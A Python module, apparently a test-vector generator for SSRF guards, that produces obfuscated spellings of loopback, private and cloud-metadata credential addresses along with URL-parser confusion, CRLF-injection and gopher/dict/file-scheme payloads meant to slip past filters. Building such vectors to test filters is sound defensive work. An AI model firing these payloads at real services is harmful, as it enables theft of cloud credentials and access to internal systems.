# ruff: noqa: RUF001 - letters that look like others are the point
"""Ways to write down an address that must not be reached, so that something reads it and a guard does not."""

import itertools
from collections.abc import Iterator
from ipaddress import IPv4Address, IPv6Address

# Loopback first: these are the ones that a canary can listen on.
LOOPBACK = ["127.0.0.1", "127.0.0.2", "127.1.2.3", "0.0.0.0"]
INSIDE = ["10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", "169.254.1.1", "198.18.0.1", "192.0.0.8", "224.0.0.1"]
CREDENTIALS = ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192"]
ADDRESSES = [*LOOPBACK, *INSIDE, *CREDENTIALS]

# The host that a parser with a mistake takes to be meant.
BAIT = "example.com"

ENCLOSED = "⓪①②③④⑤⑥⑦⑧⑨"
FULL_WIDTH = "０１２３４５６７８９"
MATHEMATICAL = "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗"
ARABIC = "٠١٢٣٤٥٦٧٨٩"
DEVANAGARI = "०१२३४५६७८९"
SUPERSCRIPT = "⁰¹²³⁴⁵⁶⁷⁸⁹"


def spellings(text: str) -> Iterator[str]:
    """Yield hosts that mean this IPv4 address to somebody: inet_aton, a browser, or a program with a mistake."""
    number = int(IPv4Address(text))
    a, b, c, d = IPv4Address(text).packed
    yield text
    yield f"{text}."
    yield f"{text}.."
    yield from (str(number), f"{number:#x}", f"{number:#X}", f"0{number:o}", f"{number:#o}", f"{number:#b}")
    yield from (str(number + (1 << 32)), f"00{number}", f"0x0000000000{number:x}", f"{number}.", f"{number:#x}.")
    for form in ("{:#x}", "{:#X}", "0{:o}", "000{:o}", "0x0000{:x}", "{:03d}", "{:04d}"):
        yield ".".join(form.format(part) for part in (a, b, c, d))
    yield from (f"{a}.{b}.{c << 8 | d}", f"{a}.{b << 16 | c << 8 | d}", f"{a:#x}.{b << 16 | c << 8 | d}")
    yield from (f"0{a:o}.{b}.{c}.{d}", f"{a:#x}.{b}.{c}.{d}", f"{a}.{b}.{c}.0{d:o}", f"{a}.{b}.{c}.{d:#x}")
    yield from (f"{a + 256}.{b}.{c}.{d}", f"{a}.{b}.{c}.{d + 256}", f"{a}.{b}.{c}", f"{a}.{b}.{c}.{d}.0")
    yield from (f"+{a}.{b}.{c}.{d}", f"-{a}.{b}.{c}.{d}", f"{a}. {b}.{c}.{d}", f"{a}.{b}.{c}.{d}\u00ad")
    for digits in (ENCLOSED, FULL_WIDTH, MATHEMATICAL, ARABIC, DEVANAGARI, SUPERSCRIPT):
        yield "".join(digits[int(character)] if character.isdigit() else character for character in text)
    for dot in "。．｡․‥":
        yield text.replace(".", dot)
    yield "".join(f"%{ord(character):02x}" for character in text)
    yield text.replace(".", "%2e")
    yield from (
        f"{text}%00",
        f"{text}%20",
        f"{text}%2f.example.com",
        f"{text}\x00.example.com",
        f"{text}\t",
        f"\t{text}",
    )
    yield from (
        f"{text}\r\n",
        f" {text}",
        f"{text}\u200b",
        f"\ufeff{text}",
        f"[{text}]",
        f"[::{text}]",
        f"{text}\u3002",
    )


def embeddings(text: str) -> Iterator[str]:
    """Yield IPv6 addresses, in several spellings, from which packets may end up at this IPv4 address."""
    number = int(IPv4Address(text))
    for bits in (
        number,
        0xFFFF << 32 | number,
        0xFFFF << 48 | number,
        0x64FF9B << 96 | number,
        0x64FF9B0001 << 80 | number,
        0x64FF9B0001 << 80 | (number >> 16) << 64 | (number & 0xFFFF) << 40,
        0x64FF9B0001 << 80 | number << 24,
        0x2002 << 112 | number << 80 | 1,
        0x20010000 << 96 | number << 64 | 1,
        0x20010000 << 96 | 1 << 64 | (number ^ 0xFFFFFFFF),
    ):
        address = IPv6Address(bits)
        yield from (f"[{address}]", f"[{address.exploded}]", f"[{address.exploded.upper()}]")
    yield from (f"[::ffff:{text}]", f"[0:0:0:0:0:ffff:{text}]", f"[64:ff9b::{text}]", f"[::{text}]", f"[::FFFF:{text}]")
    yield from (
        f"[::ffff:{text}%25eth0]",
        f"[::ffff:{text}%eth0]",
        f"[::ffff:{text}",
        f"::ffff:{text}",
        f"[::ffff:{text}]x",
    )


def disguises(host: str, port: int) -> Iterator[str]:
    """Yield URLs in which a parser with a mistake finds this host, and another one finds another."""
    there, bait = f"{host}:{port}", BAIT
    yield from (f"http://{there}/", f"HTTP://{there}/", f"http://{there}", f"http://{there}?a", f"http:{there}/")
    yield from (
        f"http:/{there}/",
        f"http:///{there}/",
        f"//{there}/",
        f"{there}/",
        f"http:\\\\{there}\\",
        f"http://{there}#",
    )
    yield from (f"http://{bait}@{there}/", f"http://{bait}:80@{there}/", f"http://{there}@{bait}/", f"http://@{there}/")
    yield from (
        f"http://{bait}\\@{there}/",
        f"http://{there}\\@{bait}/",
        f"http://{bait}#@{there}/",
        f"http://{there}#@{bait}/",
    )
    yield from (
        f"http://{bait}?@{there}/",
        f"http://{bait}/@{there}/",
        f"http://{bait};@{there}/",
        f"http://{bait}%40{there}/",
    )
    yield from (
        f"http://{bait}%23@{there}/",
        f"http://{there}\\.{bait}/",
        f"http://{there}%2f{bait}/",
        f"http://{there}\t/",
    )
    yield from (
        f"ht\ntp://{there}/",
        f"http://{bait}\r\nHost: {there}\r\n\r\n",
        f"http://{bait} @{there}/",
        f"\x01http://{there}/",
    )
    yield from (
        f"http://{bait}\x00@{there}/",
        f"http://{bait}&@{there}/",
        f"http://[{bait}]@{there}/",
        f"http://{host}:{port}:80/",
    )
    yield from (
        f"http://{host}:80:{port}/",
        f"http://{host}:0{port}/",
        f"http://{host}:{port + 65_536}/",
        f"http://{host}:{port} /",
    )
    yield from (
        f"ftp://{there}/",
        f"gopher://{there}/_GET",
        f"file://{there}/",
        f"dict://{there}/",
        f"http+unix://{there}/",
    )
    yield from (
        f"ｈttp://{there}/",
        f"http:／／{there}/",
        f"http://{bait}＠{there}/",
        f"http://{bait}／@{there}/",
        f"ws://{there}/",
    )


def urls(port: int) -> list[str]:
    """Return every vector that needs no name server, once."""
    plain = [
        f"http://{host}:{port}/" for text in ADDRESSES for host in itertools.chain(spellings(text), embeddings(text))
    ]
    hosts = ["127.0.0.1", "[::1]", "localhost", "169.254.169.254", "2130706433", "0x7f.1"]
    disguised = [url for host in hosts for url in disguises(host, port)]
    return list(dict.fromkeys([*plain, *disguised]))
